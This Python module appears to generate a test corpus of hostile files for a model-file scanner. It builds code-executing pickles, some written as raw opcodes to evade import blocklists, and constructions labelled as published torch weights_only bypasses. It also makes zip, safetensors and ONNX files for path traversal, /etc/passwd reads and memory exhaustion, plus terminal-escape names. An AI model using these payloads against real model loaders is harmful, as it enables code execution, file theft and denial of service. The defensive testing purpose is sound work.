"""A corpus of hostile files: what somebody could hand in beside or instead of a model.

``make(folder, canary, port)`` writes them and returns the arguments of the command that opens each.
Whoever executes one finds a file at ``canary`` or a caller at ``port``.
"""

from __future__ import annotations

import io
import itertools
import json
import os
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import onnx
import safetensors.torch
import torch
from onnx import TensorProto, helper, numpy_helper
from PIL import Image

ARCH = "resnet8-wide"


@dataclass(frozen=True)
class Case:
    name: str
    arguments: list[str]


class Corpus:
    """Where files are written, and what they would do."""

    def __init__(self, folder: Path, canary: Path, port: int) -> None:
        self.folder, self.canary, self.port = folder, canary, port
        self.data = folder / "pictures"
        draw = np.random.default_rng(0)
        for label, level in enumerate((40, 200)):
            (self.data / str(label)).mkdir(parents=True)
            for index in range(24):
                pixels = draw.integers(level - 20, level + 20, (8, 8, 3)).astype(np.uint8)
                Image.fromarray(pixels).save(self.data / str(label) / f"{index}.png")

    def scan(
        self, model: Path, *more: str, data: Path | None = None, arch: str | None = ARCH
    ) -> list[str]:
        named = ["--arch", arch] if arch else []
        return ["scan", str(model), *named, "--data", str(data or self.data), *more]

    def pickled(self, name: str, content: bytes) -> list[str]:
        """A pickle without a container."""
        path = self.folder / f"{name}.pt"
        path.write_bytes(content)
        return self.scan(path)

    def zipped(
        self, name: str, content: bytes, *members: tuple[str, bytes], **options: Any
    ) -> list[str]:
        """A pickle in the container of torch.save."""
        path = self.folder / f"{name}.pt"
        with zipfile.ZipFile(path, "w", options.get("compression", zipfile.ZIP_STORED)) as archive:
            archive.writestr("m/data.pkl", content)
            archive.writestr("m/byteorder", "little")
            for member, body in members:
                archive.writestr(member, body)
            archive.writestr("m/version", "3\n")
        return self.scan(path)

    def tensors(
        self, name: str, header: object, data: bytes = b"", *, length: int | None = None
    ) -> list[str]:
        path = self.folder / f"{name}.safetensors"
        text = header if isinstance(header, bytes) else json.dumps(header).encode()
        path.write_bytes(struct.pack("<Q", len(text) if length is None else length) + text + data)
        return self.scan(path)

    def graph(
        self,
        name: str,
        nodes: list[Any],
        weights: dict[str, Any],
        *,
        shape: tuple[Any, ...] = ("n", 3, 8, 8),
        change: Callable[[Any], None] | None = None,
    ) -> list[str]:
        path = self.folder / f"{name}.onnx"
        tensors = [
            value
            if isinstance(value, onnx.TensorProto)
            else numpy_helper.from_array(np.asarray(value), key)
            for key, value in weights.items()
        ]
        model = helper.make_model(
            helper.make_graph(
                nodes,
                "g",
                [helper.make_tensor_value_info("x", TensorProto.FLOAT, shape)],
                [helper.make_tensor_value_info("y", TensorProto.FLOAT, None)],
                tensors,
            ),
            opset_imports=[helper.make_opsetid("", 17)],
        )
        if change is not None:
            change(model)
        path.write_bytes(model.SerializeToString())
        return self.scan(path, arch=None)


HOSTILE: dict[str, Callable[[Corpus, str], list[str]]] = {}


def hostile(make: Callable[[Corpus, str], list[str]]) -> Callable[[Corpus, str], list[str]]:
    HOSTILE[make.__name__.replace("_", "-")] = make
    return make


def make(folder: Path, canary: Path, port: int) -> list[Case]:
    """Write every file into ``folder``."""
    corpus = Corpus(folder, canary, port)
    return [Case(name, write(corpus, name)) for name, write in HOSTILE.items()]


class Call:
    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.arguments


def tensor(corpus: Corpus | None = None, key: str = "0", count: int = 4) -> bytes:
    """The instructions of a tensor of ``count`` numbers in a storage."""
    return (
        b"ctorch._utils\n_rebuild_tensor_v2\n((X\x07\0\0\0storagectorch\nFloatStorage\n"
        + text(key)
        + text("cpu")
        + b"J"
        + struct.pack("<i", count)
        + b"tQK\0K\x04\x85K\x01\x85\x89"
        b"ccollections\nOrderedDict\n)RtR"
    )


def text(value: str) -> bytes:
    content = value.encode()
    return b"X" + struct.pack("<I", len(content)) + content


def opens(corpus: Corpus) -> bytes:
    return b"cio\nopen\n(" + text(str(corpus.canary)) + text("w") + b"tR"


# Pickles that want to execute code


@hostile
def pickle_writes_a_file(c: Corpus, name: str) -> list[str]:
    return c.pickled(name, pickle.dumps(Call(open, str(c.canary), "w"), 2))


@hostile
def pickle_in_zip_writes_a_file(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, pickle.dumps({"w": Call(os.mkdir, str(c.canary))}, 2))


@hostile
def pickle_calls_out(c: Corpus, name: str) -> list[str]:
    import socket

    return c.zipped(name, pickle.dumps(Call(socket.create_connection, ("127.0.0.1", c.port)), 2))


@hostile
def pickle_starts_a_shell(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, pickle.dumps(Call(os.system, f"touch {c.canary}"), 2))


@hostile
def pickle_evaluates_text(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, pickle.dumps(Call(eval, f"open({str(c.canary)!r}, 'w')"), 2))


@hostile
def pickle_runs_a_module(c: Corpus, name: str) -> list[str]:
    import runpy

    (c.folder / "evil.py").write_text(f"open({str(c.canary)!r}, 'w')\n")
    return c.zipped(name, pickle.dumps(Call(runpy.run_path, str(c.folder / "evil.py")), 2))


@hostile
def pickle_resolves_a_name(c: Corpus, name: str) -> list[str]:
    """The name that is called is a text, so that no list of forbidden imports has it."""
    return c.pickled(
        name,
        b"\x80\x02cpkgutil\nresolve_name\n"
        + text("io:open")
        + b"\x85R("
        + text(str(c.canary))
        + text("w")
        + b"tR.",
    )


@hostile
def pickle_takes_names_from_the_stack(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, pickle.dumps(Call(open, str(c.canary), "w"), 4))


@hostile
def pickle_uses_inst(c: Corpus, name: str) -> list[str]:
    return c.pickled(name, b"\x80\x02(" + text(str(c.canary)) + text("w") + b"iio\nopen\n.")


@hostile
def pickle_uses_obj(c: Corpus, name: str) -> list[str]:
    return c.pickled(name, b"\x80\x02(cio\nopen\n" + text(str(c.canary)) + text("w") + b"o.")


@hostile
def pickle_uses_the_extension_registry(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, b"\x80\x02\x82\x01.")


@hostile
def pickle_drops_what_it_called(c: Corpus, name: str) -> list[str]:
    """A value that is taken off the stack again, which a decompiler loses."""
    return c.zipped(name, b"\x80\x02" + opens(c) + b"0}.")


@hostile
def pickle_breaks_behind_its_payload(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, b"\x80\x02" + opens(c) + b"\xff\xff")


@hostile
def pickle_hides_in_an_optimizer(c: Corpus, name: str) -> list[str]:
    path = c.folder / f"{name}.pt"
    torch.save(
        {"net": {"w": torch.zeros(2)}, "optimizer": {"hook": Call(open, str(c.canary), "w")}}, path
    )
    return c.scan(path)


@hostile
def pickle_of_a_whole_model(c: Corpus, name: str) -> list[str]:
    path = c.folder / f"{name}.pth"
    torch.save(torch.nn.Linear(2, 2), path)
    return c.scan(path)


@hostile
def pickle_opens_another_file(c: Corpus, name: str) -> list[str]:
    inner = c.folder / "inner.bin"
    inner.write_bytes(pickle.dumps(Call(open, str(c.canary), "w"), 2))
    return c.zipped(name, pickle.dumps(Call(torch.load, str(inner)), 2))


@hostile
def pickle_sets_attributes_of_a_function(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, b"\x80\x02ctorch._utils\n_rebuild_parameter\n}" + text("x") + b"K\1sb.")


@hostile
def pickle_in_the_second_place(c: Corpus, name: str) -> list[str]:
    """A file of several pickles, the first of them harmless (as the legacy format has them)."""
    first = b"".join(
        pickle.dumps(x, 2) for x in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})
    )
    return c.pickled(name, first + b"\x80\x02" + opens(c) + b".")


# Published ways past weights_only


@hostile
def cve_2025_32434_legacy_tar(c: Corpus, name: str) -> list[str]:
    """Before torch 2.6 the legacy tar format was unpickled without restriction."""
    path = c.folder / f"{name}.pt"
    with tarfile.open(path, "w") as archive:
        for member in ("storages", "tensors", "pickle"):
            content = pickle.dumps(Call(open, str(c.canary), "w"), 2)
            entry = tarfile.TarInfo(member)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return c.scan(path)


@hostile
def cve_2026_24747_items_of_a_tensor(c: Corpus, name: str) -> list[str]:
    """Before torch 2.10 SETITEM wrote through tensors."""
    content = b"\x80\x02" + tensor() + b"K\0G" + struct.pack(">d", 1.0) + b"s."
    return c.zipped(name, content, ("m/data/0", bytes(16)))


@hostile
def cve_2026_24747_storage_of_another_size(c: Corpus, name: str) -> list[str]:
    """Before torch 2.10 the number of elements was believed."""
    content = b"\x80\x02}" + text("stem.weight") + tensor(count=1 << 24) + b"s."
    return c.zipped(name, content, ("m/data/0", bytes(16)))


@hostile
def cve_2026_24747_the_same_without_a_container(c: Corpus, name: str) -> list[str]:
    first = b"".join(
        pickle.dumps(x, 2) for x in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})
    )
    content = b"\x80\x02}" + text("stem.weight") + tensor(count=1 << 30) + b"s."
    return c.pickled(
        name, first + content + pickle.dumps(["0"], 2) + struct.pack("<q", 4) + bytes(16)
    )


# Pickles that take memory or time with names that weights_only allows


@hostile
def pickle_asks_for_a_terabyte(c: Corpus, name: str) -> list[str]:
    return c.zipped(
        name,
        b"\x80\x02cbuiltins\nbytearray\n\x8a\x06" + (1 << 40).to_bytes(6, "little") + b"\x85R.",
    )


@hostile
def pickle_makes_a_large_tensor(c: Corpus, name: str) -> list[str]:
    return c.zipped(
        name, b"\x80\x02ctorch\nFloatTensor\nJ" + struct.pack("<i", 1 << 30) + b"\x85R."
    )


@hostile
def pickle_hashes_for_ever(c: Corpus, name: str) -> list[str]:
    """A key of tuples in tuples, each twice: its hash takes 2⁶⁴ steps."""
    grown = b"K\0" + b"".join(b"q\x01h\x01\x86" for _ in range(64))
    return c.zipped(name, b"\x80\x02}" + grown + b"K\x01s.")


@hostile
def pickle_of_lists_in_lists(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b".")


@hostile
def pickle_of_a_million_instructions(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, b"\x80\x02" + b"N0" * 600_000 + b"}.")


@hostile
def pickle_of_a_long_number(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, b"\x80\x02\x8b" + struct.pack("<i", 1 << 20) + b"\x7f" * (1 << 20) + b".")


@hostile
def pickle_of_gigabytes_of_text(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, b"\x80\x02X\xff\xff\xff\xffabc.")


# Containers


@hostile
def zip_bomb(c: Corpus, name: str) -> list[str]:
    return c.zipped(
        name, b"\x80\x02}.", ("m/data/0", bytes(200 << 20)), compression=zipfile.ZIP_DEFLATED
    )


@hostile
def zip_whose_members_overlap(c: Corpus, name: str) -> list[str]:
    """A thousand entries of the directory point at one member."""
    path = c.folder / f"{name}.pt"
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w") as archive:
        archive.writestr("m/data.pkl", b"\x80\x02}.")
        archive.writestr("m/data/0", bytes(1 << 20))
        first = archive.filelist[1]
        for index in range(1, 1000):
            copy = zipfile.ZipInfo(f"m/data/{index}")
            copy.header_offset, copy.file_size = first.header_offset, first.file_size
            copy.compress_size, copy.CRC = first.compress_size, first.CRC
            archive.filelist.append(copy)
    path.write_bytes(body.getvalue())
    return c.scan(path)


@hostile
def zip_with_paths_upwards(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, b"\x80\x02}.", ("m/../../evil", b"x"))


@hostile
def zip_with_absolute_paths(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, b"\x80\x02}.", ("/etc/evil", b"x"))


@hostile
def zip_with_two_pickles_of_one_name(c: Corpus, name: str) -> list[str]:
    """One reader takes the first of them, another the last."""
    return c.zipped(name, b"\x80\x02}.", ("m/data.pkl", b"\x80\x02" + opens(c) + b"."))


@hostile
def zip_that_is_encrypted(c: Corpus, name: str) -> list[str]:
    arguments = c.zipped(name, b"\x80\x02}.")
    path = Path(arguments[1])
    content = bytearray(path.read_bytes())
    for start in (content.find(b"PK\x03\x04") + 6, content.find(b"PK\x01\x02") + 8):
        content[start] |= 1
    path.write_bytes(content)
    return arguments


@hostile
def zip_with_something_behind(c: Corpus, name: str) -> list[str]:
    arguments = c.zipped(name, b"\x80\x02}.")
    path = Path(arguments[1])
    path.write_bytes(path.read_bytes() + b"\x80\x02" + opens(c) + b".")
    return arguments


@hostile
def zip_with_a_directory_that_lies(c: Corpus, name: str) -> list[str]:
    arguments = c.zipped(name, b"\x80\x02}.")
    path = Path(arguments[1])
    content = bytearray(path.read_bytes())
    content[-10:-6] = struct.pack("<I", 1 << 30)
    path.write_bytes(content)
    return arguments


@hostile
def zip_that_is_cut(c: Corpus, name: str) -> list[str]:
    path = c.folder / f"{name}.pt"
    torch.save({"w": torch.zeros(1000)}, path)
    path.write_bytes(path.read_bytes()[:-700])
    return c.scan(path)


@hostile
def zip_of_a_torchscript_program(c: Corpus, name: str) -> list[str]:
    program = ("m/code/__torch__.py", b"class M: pass"), ("m/constants.pkl", b"\x80\x02).")
    return c.zipped(name, b"\x80\x02}.", *program)


@hostile
def zip_of_an_exported_program(c: Corpus, name: str) -> list[str]:
    arguments = c.zipped(
        name, b"\x80\x02}.", ("m/models/model.json", b"{}"), ("m/archive_format", b"pt2")
    )
    path = Path(arguments[1])
    path = path.rename(path.with_suffix(".pt2"))
    return c.scan(path, arch=None)


# Safetensors


def entry(shape: list[int], first: int, last: int, kind: str = "F32") -> dict[str, object]:
    return {"dtype": kind, "shape": shape, "data_offsets": [first, last]}


@hostile
def tensors_with_an_endless_header(c: Corpus, name: str) -> list[str]:
    return c.tensors(name, {}, length=1 << 63)


@hostile
def tensors_with_a_header_of_spaces(c: Corpus, name: str) -> list[str]:
    return c.tensors(name, b"{" + b" " * (90 << 20) + b"}")


@hostile
def tensors_that_are_cut(c: Corpus, name: str) -> list[str]:
    return c.tensors(name, {"a": entry([100], 0, 400)}, bytes(399))


@hostile
def tensors_that_overlap(c: Corpus, name: str) -> list[str]:
    return c.tensors(name, {"a": entry([4], 0, 16), "b": entry([4], 8, 24)}, bytes(24))


@hostile
def tensors_with_a_gap(c: Corpus, name: str) -> list[str]:
    return c.tensors(name, {"a": entry([4], 0, 16), "b": entry([4], 32, 48)}, bytes(48))


@hostile
def tensors_of_one_name(c: Corpus, name: str) -> list[str]:
    one = json.dumps(entry([4], 0, 16))
    return c.tensors(name, f'{{"a": {one}, "a": {one}}}'.encode(), bytes(16))


@hostile
def tensors_of_an_overflowing_shape(c: Corpus, name: str) -> list[str]:
    return c.tensors(name, {"a": entry([1 << 32, 1 << 32], 0, 0)})


@hostile
def tensors_of_a_negative_shape(c: Corpus, name: str) -> list[str]:
    return c.tensors(name, {"a": entry([-1, -4], 0, 16)}, bytes(16))


@hostile
def tensors_with_offsets_backwards(c: Corpus, name: str) -> list[str]:
    return c.tensors(name, {"a": entry([4], 16, 0)}, bytes(16))


@hostile
def tensors_of_a_thousand_axes(c: Corpus, name: str) -> list[str]:
    return c.tensors(name, {"a": entry([1] * 100_000, 0, 4)}, bytes(4))


@hostile
def tensors_of_an_unknown_type(c: Corpus, name: str) -> list[str]:
    return c.tensors(name, {"a": entry([4], 0, 16, "PICKLE")}, bytes(16))


@hostile
def tensors_with_a_nested_header(c: Corpus, name: str) -> list[str]:
    return c.tensors(name, b'{"a":' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}")


@hostile
def tensors_with_metadata_of_no_text(c: Corpus, name: str) -> list[str]:
    return c.tensors(name, {"__metadata__": {"unbackdoor": {"arch": ARCH}}})


@hostile
def tensors_that_name_code(c: Corpus, name: str) -> list[str]:
    path = c.folder / f"{name}.safetensors"
    (c.folder / "arch.py").write_text(f"open({str(c.canary)!r}, 'w')\n")
    facts = json.dumps({"arch": f"{c.folder / 'arch.py'}:make"})
    safetensors.torch.save_file({"a": torch.zeros(1)}, path, {"unbackdoor": facts})
    return c.scan(path, arch=None)


@hostile
def tensors_named_to_take_the_terminal_over(c: Corpus, name: str) -> list[str]:
    path = c.folder / f"{name}.safetensors"
    safetensors.torch.save_file({"\x1b[2J\x1b]0;owned\x07\n[bold]": torch.zeros(1)}, path)
    return c.scan(path)


# ONNX


def node(kind: str, *inputs: str, to: str = "y", **attributes: Any) -> Any:
    return helper.make_node(kind, list(inputs), [to], **attributes)


def head(source: str = "x") -> list[Any]:
    return [node("GlobalAveragePool", source, to="pooled"), node("Flatten", "pooled")]


def outside(c: Corpus, name: str, location: str, **entries: int) -> list[str]:
    value = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1, 3, 8, 8])
    value.data_location = TensorProto.EXTERNAL
    for key, at in {"location": location, **entries}.items():
        value.external_data.add(key=key, value=str(at))
    return c.graph(name, [node("Add", "x", "w", to="z"), *head("z")], {"w": value})


@hostile
def onnx_data_upwards(c: Corpus, name: str) -> list[str]:
    return outside(c, name, "../../../../../../etc/passwd")


@hostile
def onnx_data_at_an_absolute_path(c: Corpus, name: str) -> list[str]:
    return outside(c, name, "/etc/passwd")


@hostile
def onnx_data_through_a_link(c: Corpus, name: str) -> list[str]:
    (c.folder / "link.bin").symlink_to("/etc/passwd")
    return outside(c, name, "link.bin")


@hostile
def onnx_data_of_a_device(c: Corpus, name: str) -> list[str]:
    os.mkfifo(c.folder / "fifo.bin")
    return outside(c, name, "fifo.bin")


@hostile
def onnx_data_behind_the_end(c: Corpus, name: str) -> list[str]:
    (c.folder / "short.bin").write_bytes(bytes(768))
    return outside(c, name, "short.bin", offset=-1, length=768)


@hostile
def onnx_with_a_shape_that_lies(c: Corpus, name: str) -> list[str]:
    value = TensorProto(
        name="w", data_type=TensorProto.FLOAT, dims=[1 << 31, 1 << 31], raw_data=bytes(16)
    )
    return c.graph(name, [node("Add", "x", "w", to="z"), *head("z")], {"w": value})


@hostile
def onnx_with_a_shape_below_zero(c: Corpus, name: str) -> list[str]:
    value = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[-1, -4], raw_data=bytes(16))
    return c.graph(name, [node("Add", "x", "w", to="z"), *head("z")], {"w": value})


@hostile
def onnx_with_millions_of_nodes(c: Corpus, name: str) -> list[str]:
    path = c.folder / f"{name}.onnx"
    nodes = b"\x0a\x00" * 6_000_000
    size, length = bytearray(), len(nodes)
    while length:
        size.append((length & 127) | (128 if length > 127 else 0))
        length >>= 7
    path.write_bytes(b"\x3a" + bytes(size) + nodes)
    return c.scan(path, arch=None)


@hostile
def onnx_with_functions(c: Corpus, name: str) -> list[str]:
    """Each function calls the one before it twice: 2³⁰ nodes once they are inlined."""

    def change(model: Any) -> None:
        for level in range(30):
            inner = "Relu" if level == 0 else f"F{level - 1}"
            domain = "" if level == 0 else "evil"
            calls = [
                helper.make_node(inner, ["a"], ["b"], domain=domain),
                helper.make_node(inner, ["b"], ["c"], domain=domain),
            ]
            model.functions.append(
                helper.make_function(
                    "evil", f"F{level}", ["a"], ["c"], calls, [helper.make_opsetid("", 17)]
                )
            )

    return c.graph(
        name, [helper.make_node("F29", ["x"], ["z"], domain="evil"), *head("z")], {}, change=change
    )


@hostile
def onnx_that_loops(c: Corpus, name: str) -> list[str]:
    body = helper.make_graph([node("Identity", "on", to="go")], "b", [], [])
    return c.graph(name, [node("Loop", "", "", to="z", body=body), *head()], {})


@hostile
def onnx_hides_a_graph_in_a_known_operator(c: Corpus, name: str) -> list[str]:
    body = helper.make_graph([node("Identity", "on", to="go")], "b", [], [])
    return c.graph(name, [node("Relu", "x", to="z", body=body), *head("z")], {})


@hostile
def onnx_fills_memory_from_a_shape(c: Corpus, name: str) -> list[str]:
    nodes = [node("ConstantOfShape", "s", to="w"), node("Add", "x", "w", to="z"), *head("z")]
    return c.graph(name, nodes, {"s": np.array([1 << 20, 1 << 20], np.int64)})


@hostile
def onnx_fills_memory_by_tiles(c: Corpus, name: str) -> list[str]:
    return c.graph(
        name,
        [node("Tile", "x", "s", to="z"), *head("z")],
        {"s": np.array([1, 1, 99999, 99999], np.int64)},
    )


@hostile
def onnx_fills_memory_by_pads(c: Corpus, name: str) -> list[str]:
    nodes = [node("Conv", "x", "w", to="z", pads=[1 << 30, 1 << 30, 1, 1]), *head("z")]
    return c.graph(name, nodes, {"w": np.zeros((2, 3, 1, 1), np.float32)})


@hostile
def onnx_fills_memory_by_broadcasts(c: Corpus, name: str) -> list[str]:
    nodes = [node("Mul", "a", "b", to="w"), node("Add", "x", "w", to="z"), *head("z")]
    ones = np.ones(100_000, np.float32)
    return c.graph(name, nodes, {"a": ones[:, None], "b": ones[None]})


@hostile
def onnx_doubles_forty_times(c: Corpus, name: str) -> list[str]:
    names = ["x", *(f"d{level}" for level in range(40))]
    nodes = [node("Concat", a, a, to=b, axis=2) for a, b in itertools.pairwise(names)]
    return c.graph(name, [*nodes, *head(names[-1])], {})


@hostile
def onnx_multiplies_for_ever(c: Corpus, name: str) -> list[str]:
    names = ["w", *(f"m{level}" for level in range(5000))]
    nodes = [node("MatMul", a, "w", to=b) for a, b in itertools.pairwise(names)]
    nodes += [
        node("ReduceMean", names[-1], to="r", keepdims=0),
        node("Add", "x", "r", to="z"),
        *head("z"),
    ]
    return c.graph(name, nodes, {"w": np.zeros((1000, 1000), np.float32)})


@hostile
def onnx_gathers_from_anywhere(c: Corpus, name: str) -> list[str]:
    nodes = [node("Flatten", "x", to="f"), node("Gather", "f", "i", axis=1)]
    return c.graph(name, nodes, {"i": np.array([1 << 40, -(1 << 40)], np.int64)})


@hostile
def onnx_in_a_circle(c: Corpus, name: str) -> list[str]:
    return c.graph(name, [node("Add", "x", "y", to="z"), node("Relu", "z")], {})


@hostile
def onnx_with_foreign_operators(c: Corpus, name: str) -> list[str]:
    return c.graph(name, [helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib")], {})


@hostile
def onnx_that_is_cut(c: Corpus, name: str) -> list[str]:
    arguments = c.graph(
        name,
        [node("Conv", "x", "w", to="z"), *head("z")],
        {"w": np.zeros((2, 3, 3, 3), np.float32)},
    )
    path = Path(arguments[1])
    path.write_bytes(path.read_bytes()[:-60])
    return arguments


@hostile
def onnx_with_an_endless_number(c: Corpus, name: str) -> list[str]:
    path = c.folder / f"{name}.onnx"
    path.write_bytes(b"\xff" * 1000)
    return c.scan(path, arch=None)


# Paths, links and devices


@hostile
def link_in_a_circle(c: Corpus, name: str) -> list[str]:
    path = c.folder / f"{name}.pt"
    path.symlink_to(path)
    return c.scan(path)


@hostile
def device_for_a_model(c: Corpus, name: str) -> list[str]:
    (c.folder / f"{name}.pt").symlink_to("/dev/zero")
    return c.scan(c.folder / f"{name}.pt")


@hostile
def pipe_for_a_model(c: Corpus, name: str) -> list[str]:
    os.mkfifo(c.folder / f"{name}.safetensors")
    return c.scan(c.folder / f"{name}.safetensors")


@hostile
def folder_for_a_model(c: Corpus, name: str) -> list[str]:
    (c.folder / f"{name}.pt").mkdir()
    return c.scan(c.folder / f"{name}.pt")


@hostile
def name_that_no_file_can_have(c: Corpus, name: str) -> list[str]:
    return c.scan(Path("x" * 5000 + "\0.pt"))


def hub(c: Corpus, name: str, config: object) -> Path:
    folder = c.folder / name
    folder.mkdir()
    text = config if isinstance(config, bytes) else json.dumps(config).encode()
    (folder / "config.json").write_bytes(text)
    safetensors.torch.save_file({"a": torch.zeros(1)}, folder / "model.safetensors")
    return folder


@hostile
def hub_folder_that_brings_code(c: Corpus, name: str) -> list[str]:
    config = {
        "architectures": ["EvilForImageClassification"],
        "auto_map": {"AutoModel": "evil.Evil"},
    }
    folder = hub(c, name, config)
    (folder / "evil.py").write_text(f"open({str(c.canary)!r}, 'w')\n")
    return c.scan(folder, arch=None)


@hostile
def hub_folder_with_a_link_out(c: Corpus, name: str) -> list[str]:
    folder = hub(c, name, {"architectures": ["ViTForImageClassification"]})
    (folder / "model.safetensors").unlink()
    (folder / "model.safetensors").symlink_to("/etc/passwd")
    return c.scan(folder, arch=None)


@hostile
def hub_folder_with_a_nested_config(c: Corpus, name: str) -> list[str]:
    return c.scan(hub(c, name, b"[" * 1_000_000), arch=None)


@hostile
def hub_folder_of_a_language_model(c: Corpus, name: str) -> list[str]:
    return c.scan(hub(c, name, {"architectures": ["GPT2LMHeadModel"]}), arch=None)


# Pictures


def pictures(c: Corpus, name: str) -> Path:
    for label in "ab":
        (c.folder / name / label).mkdir(parents=True)
        Image.new("RGB", (8, 8)).save(c.folder / name / label / "0.png")
    return c.folder / name


@hostile
def picture_bomb(c: Corpus, name: str) -> list[str]:
    folder = pictures(c, name)
    Image.new("1", (20_000, 20_000)).save(folder / "a" / "1.png")
    return ["scan", "shipped:clean", "--data", str(folder)]


@hostile
def many_pictures_that_grow(c: Corpus, name: str) -> list[str]:
    folder = pictures(c, name)
    Image.new("L", (4096, 4096)).save(folder / "a" / "0.png")
    for index in range(1, 12):
        os.link(folder / "a" / "0.png", folder / "a" / f"{index}.png")
    return ["scan", "shipped:clean", "--data", str(folder)]


@hostile
def picture_that_is_a_program(c: Corpus, name: str) -> list[str]:
    folder = pictures(c, name)
    program = f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 8 8\n({c.canary}) (w) file closefile\n"
    (folder / "a" / "1.png").write_text(program)
    return ["scan", "shipped:clean", "--data", str(folder)]


@hostile
def picture_through_a_link(c: Corpus, name: str) -> list[str]:
    folder = pictures(c, name)
    secret = c.folder / "secret.png"
    Image.new("RGB", (8, 8)).save(secret)
    (folder / "a" / "1.png").symlink_to(secret)
    return ["scan", "shipped:clean", "--data", str(folder)]


@hostile
def picture_that_is_a_pipe(c: Corpus, name: str) -> list[str]:
    folder = pictures(c, name)
    os.mkfifo(folder / "a" / "1.png")
    return ["scan", "shipped:clean", "--data", str(folder)]


@hostile
def picture_that_is_cut(c: Corpus, name: str) -> list[str]:
    folder = pictures(c, name)
    path = folder / "a" / "0.png"
    path.write_bytes(path.read_bytes()[:45])
    return ["scan", "shipped:clean", "--data", str(folder)]


# Settings and results


@hostile
def labels_of_a_device(c: Corpus, name: str) -> list[str]:
    return c.scan(Path("shipped:clean"), "--labels", "/dev/zero", arch=None)


@hostile
def labels_that_are_nested(c: Corpus, name: str) -> list[str]:
    path = c.folder / f"{name}.json"
    path.write_bytes(b'{"a":' * 200_000)
    return c.scan(Path("shipped:clean"), "--labels", str(path), arch=None)


@hostile
def result_that_is_nested(c: Corpus, name: str) -> list[str]:
    path = c.folder / f"{name}.json"
    path.write_bytes(b'{"kind":"scan","settings":' + b"[" * 500_000)
    return ["report", str(path), "-o", str(c.folder / f"{name}.html")]


@hostile
def result_of_a_device(c: Corpus, name: str) -> list[str]:
    return ["report", "/dev/zero", "-o", str(c.folder / f"{name}.html")]
